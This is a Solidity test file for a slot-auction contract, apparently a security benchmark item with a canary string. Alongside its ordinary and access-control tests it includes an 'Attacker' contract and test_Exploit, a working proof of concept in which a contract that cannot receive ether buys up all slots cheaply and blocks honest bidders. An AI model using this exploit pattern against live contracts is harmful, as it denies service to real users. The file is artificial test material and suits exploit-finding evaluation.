// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./SlotAuction.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-32584402-2920-4d8e-8ad6-1f03214cef8e

interface Vm {
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// An honest bidder: bids what is asked and takes back what is owed.
contract Bidder {
    receive() external payable {}

    function bid(SlotAuction auction, uint256 amount) external {
        auction.bid{value: amount}(0, bytes32("mine"));
    }

    function withdraw(SlotAuction auction) external {
        auction.withdraw(address(this));
    }
}

/// Takes what is free for the smallest amount; it has no way to receive ether.
contract Attacker {
    constructor() payable {}

    function run(SlotAuction auction) external {
        (, , , uint8 slots, uint8 taken, , , ) = auction.boards(0);
        for (; taken < slots; taken++) auction.bid{value: auction.minBid(0)}(0, bytes32("cheap"));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address payable private constant TREASURY = payable(address(0x7EA));

    SlotAuction private auction;
    Attacker private mallory;
    Bidder private ana;
    Bidder private ben;
    Bidder private cleo;
    Bidder private dora;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_764_000_000);
        vm.deal(address(this), 10 ether);
        auction = new SlotAuction(TREASURY);
        auction.addBoard(0.1 ether, 0.05 ether, 6 days, 3);
        ana = new Bidder();
        ben = new Bidder();
        cleo = new Bidder();
        dora = new Bidder();
        vm.deal(address(ana), 10 ether);
        vm.deal(address(ben), 10 ether);
        vm.deal(address(cleo), 10 ether);
        vm.deal(address(dora), 10 ether);
        mallory = new Attacker{value: 0.1 ether}();
        ana.bid(auction, 1 ether);
        ben.bid(auction, 2 ether);
    }

    function test_Regular() public {
        cleo.bid(auction, 3 ether);
        require(auction.minBid(0) == 1.05 ether, "minimum after three bids");
        dora.bid(auction, 1.5 ether);
        require(address(ana).balance + auction.owed(address(ana)) == 10 ether, "ana is made whole");
        (address holder, uint256 amount, bytes32 listing) = auction.slotAt(0, 0);
        require(holder == address(dora) && amount == 1.5 ether && listing == bytes32("mine"), "dora holds the slot");

        vm.warp(block.timestamp + 6 days);
        auction.settle(0);
        require(auction.proceeds() == 4.4775 ether && auction.owed(address(this)) == 0.0225 ether, "uniform price");
        (address tenant, ) = auction.tenancies(0, 1, 2);
        require(tenant == address(cleo), "tenant");
        cleo.withdraw(auction);
        require(address(cleo).balance == 8.5 ether, "cleo paid 1.5");
        ben.withdraw(auction);
        require(address(ben).balance == 8.5 ether, "ben paid 1.5");
        auction.collect();
        require(TREASURY.balance == 4.4775 ether && auction.proceeds() == 0, "collected");
        auction.withdraw(address(this));
        (, , , , uint8 taken, , , uint64 round) = auction.boards(0);
        require(round == 2 && taken == 0 && auction.minBid(0) == 0.1 ether, "next round open");

        vm.startPrank(address(cleo));
        auction.setListing(0, 1, 2, bytes32("else"));
        auction.passOn(0, 1, 2, address(ben));
        vm.stopPrank();
        (tenant, listing) = auction.tenancies(0, 1, 2);
        require(tenant == address(ben) && listing == bytes32("else"), "passed on");

        auction.hide(0, 1, 2);
        (tenant, listing) = auction.tenancies(0, 1, 2);
        require(tenant == address(ben) && listing == 0, "hidden");

        auction.setPrices(0, 0.2 ether, 0.1 ether);
        ana.bid(auction, 1 ether);
        vm.prank(address(ana));
        auction.raise{value: 0.5 ether}(0, 0);
        (, amount, ) = auction.slotAt(0, 0);
        require(amount == 1.5 ether, "raised");
        ben.bid(auction, 0.2 ether);
        cleo.bid(auction, 0.2 ether);
        require(auction.minBid(0) == 0.3 ether, "step");
        auction.setPrices(0, 0.5 ether, 0.1 ether);
        require(auction.minBid(0) == 0.5 ether, "floor");

        uint256 id = auction.addBoard(1 ether, 0.1 ether, 1 days, 1);
        vm.warp(block.timestamp + 2 days);
        auction.settle(id);
        auction.retire(id);
        auction.setTip(0);
        auction.setTreasury(address(this));
        auction.pause();
        auction.unpause();
        auction.transferOwnership(address(ana));
        vm.startPrank(address(ana));
        auction.acceptOwnership();
        auction.renounceOwnership();
        vm.stopPrank();
    }

    /// The honest call: dora, who has plenty, bids exactly what is asked for.
    function honestBid() public {
        dora.bid(auction, auction.minBid(0));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Slots are their bidders', and the boards the owner's.
    function test_RefusesStrangers() public {
        refuses(address(ben), SlotAuction.NotYours.selector);
        auction.raise{value: 1 ether}(0, 0);
        bytes memory owner = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ben);
        vm.startPrank(address(ben));
        vm.expectRevert(owner);
        auction.addBoard(1 ether, 1 ether, 1 days, 1);
        vm.expectRevert(owner);
        auction.setPrices(0, 1 ether, 1 ether);
        vm.expectRevert(owner);
        auction.retire(0);
        vm.expectRevert(owner);
        auction.collect();
        vm.expectRevert(owner);
        auction.hide(0, 1, 0);
        vm.expectRevert(owner);
        auction.setTip(0);
        vm.expectRevert(owner);
        auction.setTreasury(address(ben));
        vm.expectRevert(owner);
        auction.pause();
        vm.expectRevert(owner);
        auction.unpause();
        vm.expectRevert(owner);
        auction.transferOwnership(address(ben));
        vm.stopPrank();
        vm.expectRevert("nothing owed");
        auction.withdraw(address(this));
    }

    function test_RefusesBoards() public {
        vm.expectRevert("no treasury");
        new SlotAuction(address(0));
        vm.expectRevert("tip too high");
        auction.setTip(201);
        vm.expectRevert("bad slots");
        auction.addBoard(1 ether, 1 ether, 1 days, 0);
        vm.expectRevert("bad slots");
        auction.addBoard(1 ether, 1 ether, 1 days, 6);
        vm.expectRevert("bad length");
        auction.addBoard(1 ether, 1 ether, 1 hours - 1, 1);
        vm.expectRevert("bad length");
        auction.addBoard(1 ether, 1 ether, 30 days + 1, 1);
        vm.expectRevert("bad prices");
        auction.addBoard(1 ether, 0.001 ether - 1, 1 days, 1);
        vm.expectRevert("bad prices");
        auction.setPrices(0, 1 ether - 1, 1 ether);
        vm.expectRevert("has bids");
        auction.retire(0);
        bytes memory none = abi.encodeWithSelector(SlotAuction.NoBoard.selector, 1);
        vm.expectRevert(none);
        auction.retire(1);
        vm.expectRevert(none);
        auction.settle(1);
        uint256 id = auction.addBoard(1 ether, 1 ether, 1 days, 1);
        auction.retire(id);
        vm.expectRevert("retired");
        auction.bid{value: 1 ether}(id, 0);
    }

    function test_RefusesBids() public {
        cleo.bid(auction, 3 ether);
        vm.expectRevert(abi.encodeWithSelector(SlotAuction.BidTooLow.selector, 1.05 ether));
        auction.bid{value: 1.05 ether - 1}(0, 0);
        auction.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        auction.bid{value: 2 ether}(0, 0);
        refuses(address(ana), Pausable.EnforcedPause.selector);
        auction.raise{value: 1 ether}(0, 0);
    }

    function test_RefusesOutsideOfRounds() public {
        vm.expectRevert(SlotAuction.RoundRunning.selector);
        auction.settle(0);
        vm.warp(block.timestamp + 6 days);
        vm.expectRevert(SlotAuction.RoundOver.selector);
        auction.bid{value: 1 ether}(0, 0);
        refuses(address(ana), SlotAuction.RoundOver.selector);
        auction.raise{value: 1 ether}(0, 0);
    }

    function test_RefusesTenants() public {
        vm.warp(block.timestamp + 6 days);
        auction.settle(0);
        vm.expectRevert(SlotAuction.NotYours.selector);
        auction.setListing(0, 1, 0, 0);
        vm.expectRevert(SlotAuction.NotYours.selector);
        auction.passOn(0, 1, 0, address(this));
        vm.prank(address(ana));
        vm.expectRevert("to nobody");
        auction.passOn(0, 1, 0, address(0));
    }

    /// What is not accepted is not lost.
    function test_RefusesToPayInVain() public {
        vm.warp(block.timestamp + 6 days);
        auction.settle(0);
        vm.prank(address(ben));
        vm.expectRevert(abi.encodeWithSelector(SlotAuction.PayFailed.selector, mallory));
        auction.withdraw(address(mallory));
        require(auction.owed(address(ben)) == 1 ether, "still owed");
    }

    function exploit() public {
        mallory.run(auction);
    }

    function test_Exploit() public {
        exploit();
        require(auction.minBid(0) <= 1 ether && address(dora).balance == 10 ether, "dora can afford the bid");
        (bool served, ) = address(this).call(abi.encodeCall(this.honestBid, ()));
        require(!served, "dora could still bid");
    }

    function target() public view returns (address) {
        return address(auction);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
